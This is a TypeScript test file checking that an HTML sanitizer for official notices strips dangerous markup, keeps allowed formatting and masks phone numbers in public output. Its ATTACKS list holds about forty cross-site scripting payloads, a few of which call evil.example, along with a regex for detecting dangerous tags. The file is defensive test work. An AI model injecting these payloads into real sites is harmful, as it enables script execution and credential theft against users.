import { describe, expect, it } from 'vitest';
import { harmless, harmlessInPublic, textOf } from './notice-html.ts';

/** Ways in that are known from word processors, cheat sheets and parsers that repair what they read. */
const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p id="root" class="ant-modal" name="x">x</p>',
  '<form action="https://evil.example"><input name="password"><button>x</button></form>',
  '<object data="x"></object><embed src="x"><applet code="x">',
  '<link rel=stylesheet href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example/">',
  '<style>@import "//evil.example";</style>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<<script>alert(1)//<</script>',
  '<p<script>alert(1)</script>',
  '<a href="https://ok.example" target="_blank" onfocus=alert(1) autofocus>x</a>',
  '<audio src=x onerror=alert(1)><video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<td background="javascript:alert(1)">x</td>',
  '<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>',
  `${'<blockquote>'.repeat(200)}<script>alert(1)</script>`,
];

const DANGER =
  /<(?!\/?(p|br|hr|h2|h3|h4|strong|b|em|i|u|s|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|a)\b)[a-z!/]|\son\w+\s*=|\sstyle\s*=|\s(id|class|name|target|src|background)\s*=|href="(?!https?:|mailto:|tel:|\/[^/]|#)/i;

/** Remains of marks in text are text. */
const tagsOf = (html: string) => (html.match(/<[^>]*>?/g) ?? []).join('');

describe('[S1-19 T31] the text of a notice', () => {
  it.each(ATTACKS)('lets nothing of %s run', (attack) => {
    const kept = harmless(`<p>正文</p>${attack}`);
    expect(kept).toContain('<p>正文</p>');
    for (const made of [kept, harmlessInPublic(kept)]) expect(DANGER.exec(tagsOf(made))?.[0]).toBeUndefined();
    // Harmless markup stays as it is: saved again, nothing moves.
    expect(harmless(kept)).toBe(kept);
  });

  it('keeps what texts are made of', () => {
    const text =
      '<h3>一、范围</h3><p>请于<strong>5日内</strong>报送。<br /></p><ul><li>甲</li></ul><table><tbody><tr><td colspan="2">乙</td></tr></tbody></table>';
    expect(harmless(text)).toBe(text);
    expect(harmless('<a href="https://hrss.example/1">链接</a>')).toBe(
      '<a href="https://hrss.example/1" rel="noopener noreferrer">链接</a>',
    );
  });

  it('hides numbers of people in public, and leaves links as they are', () => {
    const text = '<p>联系 19900000008</p><p><a href="https://x.example/19900000008">见此</a></p>';
    expect(harmlessInPublic(text)).toContain('199****0008');
    expect(harmlessInPublic(text)).toContain('https://x.example/19900000008');
  });

  it('is told without its marks where only words fit', () => {
    expect(textOf('<p>一 &amp; 二</p><ul><li>三</li></ul>')).toBe('一 & 二\n三');
    expect(textOf('<p><br></p>')).toBe('');
  });
});
